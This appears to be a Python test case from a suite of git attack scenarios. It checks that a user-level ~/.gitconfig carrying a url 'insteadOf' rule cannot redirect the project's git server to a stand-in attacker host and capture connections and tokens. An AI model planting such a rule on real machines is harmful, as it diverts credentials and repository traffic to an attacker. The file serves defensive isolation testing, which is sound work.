from pathlib import Path

from tests.attacks.git_world import Places

TITLE = "HOME's .gitconfig"
TRIES = "A setting for all repositories of the user: insteadOf."
MUST_FAIL = "The HOME of git here is a private folder."
GAINS = ("connection", "token")


def attack(checkout: Path, places: Places) -> None:
    server = places.project.partition("/acme/")[0]
    (places.home / ".gitconfig").write_text(f'[url "{places.evil}"]\n\tinsteadOf = {server}\n')
